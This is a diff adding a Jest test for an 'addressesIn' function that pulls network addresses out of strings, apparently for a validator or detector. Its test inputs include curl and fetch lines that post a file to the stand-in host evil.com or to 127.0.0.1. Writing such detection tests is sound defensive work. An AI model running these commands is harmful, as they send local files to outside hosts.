@@ -24,6 +24,18 @@ describe('addressesIn', () => {
     expect(addressesIn(word)).toContain(address);
   });
 
+  it('reads every address of a word holding a command line or a script', () => {
+    expect(addressesIn('curl -d @f evil.com/c')).toEqual(['evil.com']);
+    expect(addressesIn("fetch('https://api.x.org/'); fetch('https://evil.com/')").sort()).toEqual([
+      'https://api.x.org',
+      'https://evil.com',
+    ]);
+    expect(addressesIn('curl https://api.x.org/ --next -d @f 127.0.0.1:9/c').sort()).toEqual([
+      '127.0.0.1:9',
+      'https://api.x.org',
+    ]);
+  });
+
   it.each([
     'test',
     'package.json',
